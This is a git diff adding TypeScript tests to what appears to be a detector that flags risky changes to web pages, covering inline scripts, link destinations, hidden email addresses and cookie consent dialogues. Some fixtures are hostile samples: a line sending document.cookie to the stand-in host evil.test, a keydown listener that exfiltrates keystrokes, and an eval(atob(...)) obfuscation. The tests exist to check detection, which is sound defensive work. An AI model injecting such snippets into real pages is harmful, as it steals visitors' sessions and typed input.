@@ -337,3 +337,78 @@ describe("markup of real pages", () => {
     ).toEqual(["important: New inline script: listens to forms or keys"]);
   });
 });
+
+describe("a new inline script", () => {
+  const script = (code: string) => page("", { head: `<script>${code}</script>` });
+  const load = (host: string) =>
+    `(function(d){var s=d.createElement("script");s.src="https://${host}/w.js";d.head.appendChild(s)})(document)`;
+
+  test("that only calls a service whose own script may come unasked is passed over like that script", () => {
+    expect(told(page(""), script(load("survey.survicate.com")))).toEqual([]);
+  });
+
+  test.for([
+    [
+      "calls someone else as well",
+      `${load("survey.survicate.com")};fetch("https://evil.test/?"+document.cookie)`,
+    ],
+    [
+      "reads what is typed",
+      `${load("survey.survicate.com")};addEventListener("keydown",e=>fetch("/k?"+e.key))`,
+    ],
+    ["hides what it does", `${load("survey.survicate.com")};eval(atob("YWxlcnQoMSk="))`],
+    ["names nobody", 'var s=document.createElement("script");s.src=where()'],
+  ] satisfies [string, string][])("is told when it %s", ([, code]) => {
+    expect(told(page(""), script(code))).toEqual([expect.stringMatching(/^(?:important|critical): /)]);
+  });
+});
+
+describe("where links lead", () => {
+  const link = (href: string) => page(`<p>See <a href="${href}">the small print</a> first.</p>`);
+
+  test("a place in the page that a machine numbered is the same place, one that is named is not", () => {
+    expect(told(link("#part--818319741"), link("#part-1642061665"))).toEqual([]);
+    expect(told(link("#part-deposit"), link("#part-pets"))).toEqual([
+      expect.stringContaining("leads elsewhere"),
+    ]);
+    expect(told(link("#v20240512"), link("#v20260101"))).toEqual([
+      expect.stringContaining("leads elsewhere"),
+    ]);
+  });
+
+  test("a campaign's link leads where the campaign does; to another host it is told", () => {
+    const offer = (where: string) => link(`https://shop.house.test/${where}?utm_source=footer`);
+    expect(told(offer("kettles"), offer("lamps"))).toEqual([expect.stringMatching(/^info: /)]);
+    expect(told(offer("kettles"), link("https://evil.test/lamps?utm_source=footer"))).toEqual([
+      "important: Link “the small print” leads to evil.test",
+    ]);
+  });
+
+  test("an address is told of when it is hidden from robots or open to them, not when its key differs", () => {
+    const veiled = (key: number) =>
+      link(
+        `/cdn-cgi/l/email-protection#${[key, ...[..."a@b.test"].map((char) => char.charCodeAt(0) ^ key)].map((byte) => byte.toString(16).padStart(2, "0")).join("")}`,
+      );
+    expect(told(veiled(17), veiled(99))).toEqual([]);
+    expect(told(veiled(17), link("mailto:a@b.test"))).toEqual([
+      "notice: Address a@b.test is now open to robots",
+    ]);
+    expect(told(link("mailto:a@b.test"), veiled(17))).toEqual([
+      "notice: Address a@b.test is now hidden from robots",
+    ]);
+  });
+
+  test("partners that a consent dialogue names when it comes are no alarm", () => {
+    const dialogue = `<div class="cookie-consent"><p>We use cookies with <a href="https://partner.test/">our partner</a>.</p><button>Accept all</button><button>Reject all</button></div>`;
+    const { verdict } = compare(page(""), page("", { around: dialogue }), emptyMemory());
+    expect(verdict).toMatchObject({ folded: true, severity: "notice" });
+    const bare = page("", { around: '<p>With <a href="https://partner.test/">our partner</a>.</p>' });
+    expect(compare(page(""), bare, emptyMemory()).verdict).toMatchObject({
+      folded: false,
+      severity: "important",
+    });
+    const standing = dialogue.replace(/ with <a.*?<\/a>/, "");
+    const stood = compare(page("", { around: standing }), page("", { around: dialogue }), emptyMemory());
+    expect(stood.verdict).toMatchObject({ folded: false, severity: "important" });
+  });
+});
